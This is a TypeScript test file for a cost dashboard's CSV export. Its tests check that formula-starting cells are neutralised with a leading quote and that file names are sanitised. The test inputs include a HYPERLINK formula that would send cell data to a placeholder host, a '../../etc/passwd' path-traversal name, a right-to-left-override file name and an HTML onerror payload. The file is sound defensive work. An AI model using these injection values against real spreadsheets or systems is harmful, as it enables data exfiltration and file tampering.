/** What leaves as CSV: read back by a parser it is what was put in, and nothing in it is a formula. */
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { CostView } from '#contract/figures.ts'
import type { ShownCost } from '../../dashboards/web/src/show/cost.ts'
import { costRows } from '../../dashboards/web/src/show/costFile.ts'
import { csvCell, csvText, fileName } from '../../dashboards/web/src/show/csv.ts'

test.each([
  ['=1+1', "'=1+1"],
  ['+86 10', "'+86 10"],
  ['-1+2', "'-1+2"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t=1"],
  ['\r=1', "'\r=1"],
  [' =1', "' =1"],
  ['＝1', "'＝1"],
  ['=HYPERLINK("http://x?"&A1,"y")', `'=HYPERLINK("http://x?"&A1,"y")`],
  ['-2.49', '-2.49'],
  ['+7', '+7'],
  ['-', "'-"],
  ['球阀 Q41F', '球阀 Q41F'],
  ['a;=1', 'a;=1'],
  ['', ''],
])('T11 the text %j stands in the file as %j', (text, stands) => {
  const [[cell]] = parse(csvText([[text, 'x']]), { bom: true, relaxQuotes: false }) as [[string]]
  expect(cell).toBe(stands)
})

test.each([
  [-2.49, '-2.49'],
  [0, '0'],
  [-5n, '-5'],
  [null, ''],
  [Number.NaN, ''],
])('T11 the number %s stays %j', (cell, stands) => expect(csvCell(cell)).toBe(stands))

test('T11 whatever the texts are, a reader finds them in their cells and no cell begins a formula', () => {
  const text = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc
      .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '"', ';', ' '), fc.string())
      .map((two) => two.join('')),
  )
  const rows = fc.array(fc.array(text, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 5 })
  fc.assert(
    fc.property(rows, (asked) => {
      const file = csvText(asked)
      const read = parse(file, { bom: true, recordDelimiter: '\r\n' })
      expect(read.map((row) => row.length)).toEqual(asked.map(() => 3))
      for (const [i, row] of read.entries())
        for (const [j, cell] of row.entries()) {
          expect(cell.replace(/^'/, '')).toBe(asked[i]![j]!.replace(/^'/, ''))
          expect(/^[+-]?\d+(\.\d+)?$/.test(cell) || !/^\s*[=+\-@]|^[\t\r]/.test(cell)).toBe(true)
        }
    }),
  )
})

test.each([
  ['成本 2026-11.csv', '成本 2026-11.csv'],
  ['order "WO/7"\r\nx: y.csv', 'order WO 7 x y.csv'],
  ['../../etc/passwd', 'etc passwd'],
  ['-rf', 'rf'],
  ['a\u202Evsc.exe', 'a vsc.exe'],
  ['<img onerror=x>', 'img onerror x'],
  ['\u0000', 'file'],
])('T11 a file named %j is saved as %j', (asked, saved) => expect(fileName(asked)).toBe(saved))

test('T11 the file of the cost page holds its table, and a title that begins a formula runs nothing', () => {
  const by = { measured: 150, standard: 0, estimated: -249 }
  const title = { zh: '=HYPERLINK("http://x?"&A1,"车床")', en: 'x' }
  const view = {
    figure: { by, provisional: 0 },
    lines: [{ line: 'power', cost: -99 }],
    elements: [{ element: 'electricity', title, known: -99, u2: null, by }],
  } as unknown as CostView
  const line = { line: 'power', cost: -99, u2: 1, target: null, by, provisional: 0 }
  const shown = { cost: -99, u2: 1, target: 9000, lines: [line] } as unknown as ShownCost
  const words = { t: (key: string) => `@${key}`, title: (both: { zh: string }) => both.zh }
  const file = csvText(costRows(view, shown, words))
  const [head, ...rows] = parse(file, { bom: true })
  expect(head![0]).toBe("'@costPage.line")
  expect(rows).toEqual([
    ["'@line.power", '-0.99', '0.01', '', '1.5', '0', '-2.49', '0'],
    [`'  ${title.zh}`, '-0.99', '', '', '1.5', '0', '-2.49', ''],
    ["'@costPage.total", '-0.99', '0.01', '90', '1.5', '0', '-2.49', '0'],
  ])
})
